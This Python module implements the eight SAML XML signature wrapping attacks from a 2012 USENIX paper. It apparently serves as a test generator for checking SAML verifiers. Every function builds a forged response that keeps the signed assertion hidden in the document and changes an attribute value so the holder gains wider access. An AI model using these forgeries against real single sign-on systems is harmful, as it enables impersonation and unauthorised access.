"""Signature wrapping: the eight variants of "On Breaking SAML: Be Whoever You Want to Be" (USENIX Security 2012).

Each takes a response of which the assertion, or the whole, is really signed, and puts another person's assertion where
a careless reader looks, while the signed part stays somewhere in the document.
"""

from collections.abc import Callable
from copy import deepcopy

from lxml import etree

SAML = "{urn:oasis:names:tc:SAML:2.0:assertion}"
PROTOCOL = "{urn:oasis:names:tc:SAML:2.0:protocol}"
SIGNATURE = "{http://www.w3.org/2000/09/xmldsig#}Signature"
Node = etree._Element


def wrapped(xml: bytes, variant: int, *, same_id: bool = False) -> bytes:
    """Return the forged document; with `same_id` the forged part keeps the ID of the signed one."""
    root = etree.fromstring(xml)
    forged = VARIANTS[variant](root, same_id)
    return etree.tostring(forged)


def signs_response(variant: int) -> bool:
    """Tell whether the variant starts from a response that is signed as a whole."""
    return variant in (1, 2)


def _evil(element: Node, *, same_id: bool) -> Node:
    """Return a copy without a signature, for another team."""
    evil = deepcopy(element)
    for signature in [*evil.iter(SIGNATURE)]:
        parent = signature.getparent()
        assert parent is not None
        parent.remove(signature)
    if not same_id:
        evil.set("ID", "forged")
    for value in evil.iter(f"{SAML}AttributeValue"):
        if value.text == "apollo":
            value.text = "everything"
    return evil


def _signature(element: Node) -> Node:
    found = element.find(SIGNATURE)
    assert found is not None
    return found


def _assertion(root: Node) -> Node:
    found = root.find(f"{SAML}Assertion")
    assert found is not None
    return found


def _without_signature(element: Node) -> Node:
    copy = deepcopy(element)
    copy.remove(_signature(copy))
    return copy


def _1(root: Node, same_id: bool) -> Node:
    evil, signature = _evil(root, same_id=same_id), deepcopy(_signature(root))
    signature.append(_without_signature(root))
    evil.insert(1, signature)
    return evil


def _2(root: Node, same_id: bool) -> Node:
    evil, signature = _evil(root, same_id=same_id), deepcopy(_signature(root))
    evil.insert(1, _without_signature(root))
    evil.insert(2, signature)
    return evil


def _3(root: Node, same_id: bool) -> Node:
    assertion = _assertion(root)
    assertion.addprevious(_evil(assertion, same_id=same_id))
    return root


def _4(root: Node, same_id: bool) -> Node:
    assertion = _assertion(root)
    evil = _evil(assertion, same_id=same_id)
    root.replace(assertion, evil)
    evil.append(assertion)
    return root


def _5(root: Node, same_id: bool) -> Node:
    assertion = _assertion(root)
    evil = _evil(assertion, same_id=same_id)
    evil.insert(1, deepcopy(_signature(assertion)))
    root.replace(assertion, evil)
    root.append(_without_signature(assertion))
    return root


def _6(root: Node, same_id: bool) -> Node:
    assertion = _assertion(root)
    evil, signature = _evil(assertion, same_id=same_id), deepcopy(_signature(assertion))
    signature.append(_without_signature(assertion))
    evil.insert(1, signature)
    root.replace(assertion, evil)
    return root


def _7(root: Node, same_id: bool) -> Node:
    assertion = _assertion(root)
    extensions = etree.Element(f"{PROTOCOL}Extensions")
    extensions.append(_evil(assertion, same_id=same_id))
    assertion.addprevious(extensions)
    return root


def _8(root: Node, same_id: bool) -> Node:
    assertion = _assertion(root)
    evil, signature = _evil(assertion, same_id=same_id), deepcopy(_signature(assertion))
    held = etree.SubElement(signature, "{http://www.w3.org/2000/09/xmldsig#}Object")
    held.append(_without_signature(assertion))
    evil.insert(1, signature)
    root.replace(assertion, evil)
    return root


VARIANTS: dict[int, Callable[[Node, bool], Node]] = {1: _1, 2: _2, 3: _3, 4: _4, 5: _5, 6: _6, 7: _7, 8: _8}
